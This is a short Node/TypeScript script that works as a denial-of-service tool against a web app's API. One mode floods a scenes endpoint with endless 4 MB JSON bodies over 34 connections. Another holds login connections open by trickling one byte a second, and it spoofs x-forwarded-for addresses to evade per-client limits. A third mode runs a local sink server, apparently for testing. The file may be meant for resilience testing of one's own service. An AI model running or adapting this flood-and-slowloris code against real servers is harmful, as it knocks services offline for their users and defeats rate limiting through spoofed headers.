// A visitor without a session who keeps a server busy until the process is stopped: `bodies` sends 4 MB on each of 34
// connections again and again, `slow` holds 16 connections from four addresses with a byte a second. `sink` is the server
// that such bytes may cost least: it reads them, and answers when a connection or a body has ended.
import { createServer, request } from 'node:http'
import { setTimeout as delay } from 'node:timers/promises'

const [mode, target = ''] = process.argv.slice(2)
const BODY = Buffer.from(`{"scenes":[${'{},'.repeat(1_390_000)}{}]}`)
const BODY_CONNECTIONS = 34
const SLOW_CONNECTIONS = 16
const ADDRESSES = 4

async function repeat(work: () => Promise<unknown>): Promise<never> {
  for (;;) await work().catch(() => delay(10))
}

async function sendBody(): Promise<void> {
  const headers = { 'content-type': 'application/json' }
  const response = await fetch(`${target}/api/v1/scenes/document/none`, { method: 'POST', headers, body: BODY })
  await response.arrayBuffer()
}

const sendSlowly = (address: string) =>
  new Promise<void>((resolve) => {
    const headers = { 'content-type': 'application/json', 'x-forwarded-for': address }
    const sending = request(`${target}/api/v1/auth/login`, { method: 'POST', headers, agent: false }, (response) => {
      response.resume()
      response.once('close', resolve)
    })
    const timer = setInterval(() => sending.write(' '), 1000)
    sending.once('error', () => resolve())
    sending.once('close', () => clearInterval(timer))
    sending.flushHeaders()
  })

if (mode === 'bodies') await Promise.all(Array.from({ length: BODY_CONNECTIONS }, () => repeat(sendBody)))
else if (mode === 'slow')
  await Promise.all(
    Array.from({ length: SLOW_CONNECTIONS }, (_, n) => repeat(() => sendSlowly(`192.0.2.${n % ADDRESSES}`))),
  )
else
  createServer((incoming, response) => {
    incoming.resume()
    incoming.once('end', () => response.end())
  }).listen(Number(target), '127.0.0.1')
